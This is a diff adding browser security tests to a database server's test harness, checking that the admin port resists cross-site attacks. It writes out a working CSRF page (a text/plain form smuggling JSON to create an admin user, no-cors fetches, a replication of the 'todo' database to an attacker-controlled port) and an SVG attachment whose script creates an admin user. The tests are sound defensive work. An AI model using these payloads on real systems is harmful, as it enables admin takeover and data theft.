@@ -167,6 +167,58 @@ class Browser:
         print("ok:", what)
 
 
+ATTACK_PAGE = """<!doctype html><html><body>
+<form id="f" method="POST" enctype="text/plain" action="http://127.0.0.1:%(admin)d/todo/_user/">
+<input type="hidden" name='{"name": "mallory", "password": "x", "admin_channels": ["*"], "pad": "' value='"}'>
+</form>
+<script>
+fetch("http://127.0.0.1:%(admin)d/todo", {method: "POST", mode: "no-cors", body: '{"_id": "planted", "channels": ["red"]}'});
+fetch("http://127.0.0.1:%(admin)d/_replicate", {method: "POST", mode: "no-cors", body: '{"source": "todo", "target": "http://localhost:%(attacker)d/loot"}'});
+fetch("http://127.0.0.1:%(admin)d/todo/_user/mallory2", {method: "PUT", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: '{"password": "x", "admin_channels": ["*"]}'});
+setTimeout(function () { document.getElementById("f").submit(); }, 200);
+</script></body></html>"""
+
+
+def attack(b, d, server, work):
+    """Serves a page from another origin (localhost, another port) that aims requests at the admin
+    port, opens it in the browser, and checks that none of them changed anything."""
+    import http.server
+    import threading
+    attacker = free_port()
+    page = ATTACK_PAGE % {"admin": server.admin, "attacker": attacker}
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            body = page.encode()
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html")
+            self.send_header("Content-Length", str(len(body)))
+            self.end_headers()
+            self.wfile.write(body)
+
+        def do_POST(self):
+            self.send_response(404)
+            self.end_headers()
+
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.HTTPServer(("127.0.0.1", attacker), Handler)
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    try:
+        d.get("http://localhost:%d/" % attacker)
+        # The form submits after 200 ms and navigates to the admin port's answer.
+        b.wait("the attacking page's form went", lambda: str(server.admin) in d.current_url, seconds=20)
+        time.sleep(1)
+        check(server.request("GET", "/todo/_user/mallory")[0] == 404, "a cross-site text/plain form made no user")
+        check(server.request("GET", "/todo/_user/mallory2")[0] == 404, "a cross-site fetch made no user")
+        check(server.request("GET", "/todo/planted")[0] == 404, "a cross-site fetch planted no document")
+        check("forbidden" in d.page_source or "403" in d.page_source or "another site" in d.page_source,
+              "the admin port answered the form as forbidden")
+    finally:
+        httpd.shutdown()
+
+
 def run(settee, screenshots):
     work = tempfile.mkdtemp(prefix="settee-browser-")
     server = Server(settee, work)
@@ -287,6 +339,21 @@ def run(settee, screenshots):
         # A form without the token is refused.
         status, _ = server.request("POST", "/_admin/db/todo/doc/conflicted/resolve", b"winner=2-bbbb", "application/x-www-form-urlencoded")
         check(status == 403, "a resolution without the form token is refused")
+
+        # A page of another site aimed at the admin port drives nothing: a text/plain form
+        # carrying JSON, no-cors fetches, a replication to its own server.
+        attack(b, d, server, work)
+        # An attachment that would run script on the admin origin is sandboxed or downloaded.
+        svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/todo/_user/svg", {method: "PUT", headers: {"Content-Type": "application/json"}, body: JSON.stringify({password: "x", admin_channels: ["*"]})})</script></svg>'
+        status, plain = server.request("GET", "/todo/plain")
+        status, _ = server.request("PUT", "/todo/plain/evil.svg?rev=" + plain["_rev"], svg, "image/svg+xml")
+        check(status == 201, "an SVG with a script is attached")
+        try:
+            d.get(server.url("/todo/plain/evil.svg"))
+        except Exception:
+            pass   # a download instead of a page
+        time.sleep(1)
+        check(server.request("GET", "/todo/_user/svg")[0] == 404, "the attachment's script did not run on the admin origin")
         print("browser-test: every check passed; screenshots in", screenshots)
     finally:
         if browser:
